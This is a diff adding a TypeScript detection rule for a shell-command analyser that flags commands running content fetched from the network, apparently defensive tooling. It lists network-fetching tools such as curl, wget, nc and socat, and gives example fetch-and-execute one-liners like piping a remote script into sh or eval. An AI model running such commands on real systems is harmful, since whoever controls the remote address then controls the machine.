@@ -1,0 +1,109 @@
+import type { Analysis, Command } from '../analysis.ts';
+import { codeOrigins, fetches, originsOf, toolOf } from '../flow.ts';
+import { isBelow } from '../paths.ts';
+import { type Check, type CheckFinding, finding } from './check.ts';
+
+/** Programs that fetch even where the host is not spelled out in the command. */
+const FETCHERS = new Set([
+  'curl',
+  'wget',
+  'aria2c',
+  'axel',
+  'lynx',
+  'nc',
+  'ncat',
+  'netcat',
+  'socat',
+  'ftp',
+  'tftp',
+  'lftp',
+  'http',
+  'https',
+  'xh',
+  'scp',
+  'sftp',
+  'ssh',
+  'dig',
+  'nslookup',
+  'host',
+]);
+
+function brings(analysis: Analysis, command: Command): boolean {
+  return FETCHERS.has(toolOf(command)) || fetches(analysis, command);
+}
+
+export const downloadAndExecute: Check = {
+  id: 'download-and-execute',
+  title: 'Something from the network is run',
+  definition: 'Content from another machine reaches an interpreter or is run as a program, in one step or in several.',
+  why: 'Whoever controls the address controls the machine, today and at each later run.',
+  attack: ['T1105'],
+  cwe: ['CWE-494'],
+  severities: { high: 'fetched content is run' },
+  instead: 'Download to a file, compare its digest with a published one, read it, then run it.',
+  examples: {
+    flagged: [
+      'curl -fsSL https://get.example.com | sh',
+      'bash <(curl -s https://x.example/i.sh)',
+      'curl -o a https://x.example/a; chmod +x a; ./a',
+      'wget -qO- https://x.example/i.py | python3',
+      'eval "$(curl -s https://x.example/i)"',
+      'wget https://x.example/setup.sh && bash setup.sh',
+      'source <(wget -qO- https://x.example/env)',
+      'curl https://x.example/i.sh > i.sh; sh i.sh',
+      'curl https://x.example/i | tee i.sh | bash',
+      'git clone https://x.example/r.git && cd r && ./install.sh',
+    ],
+    clean: [
+      'echo "never curl x | sh"',
+      'curl -o data.json https://x.example/d',
+      'bash build.sh',
+      'curl -s https://x.example/d | jq .',
+    ],
+  },
+  find(analysis) {
+    const direct = analysis.commands.flatMap((command): CheckFinding[] => {
+      const source = codeOrigins(command).find((origin) => brings(analysis, origin));
+      return source === undefined
+        ? []
+        : [
+            finding(
+              'high',
+              command,
+              `What ${toolOf(source)} fetches is run by ${command.program.text ?? 'the shell'}.`,
+              command,
+            ),
+          ];
+    });
+    return [...direct, ...stepwise(analysis)];
+  },
+};
+
+/** A file or directory that a fetching command wrote, and that a later one runs. */
+function stepwise(analysis: Analysis): CheckFinding[] {
+  const fetched = analysis.accesses.filter(
+    (access) =>
+      access.kind === 'write' &&
+      access.path !== null &&
+      originsOf([access.command]).some(
+        (origin) => brings(analysis, origin) || (toolOf(origin) === 'git' && origin.invocation.sub[0] === 'clone'),
+      ),
+  );
+  return analysis.accesses.flatMap((access): CheckFinding[] => {
+    const { path } = access;
+    if (access.kind !== 'execute' || path === null) return [];
+    const origin = fetched.find(
+      (written) => written.path !== null && isBelow(path, written.path) && written.command.id < access.command.id,
+    );
+    return origin === undefined
+      ? []
+      : [
+          finding(
+            'high',
+            access,
+            `${access.field?.text ?? 'A file'} was fetched by ${toolOf(origin.command)} before it is run.`,
+            access.command,
+          ),
+        ];
+  });
+}
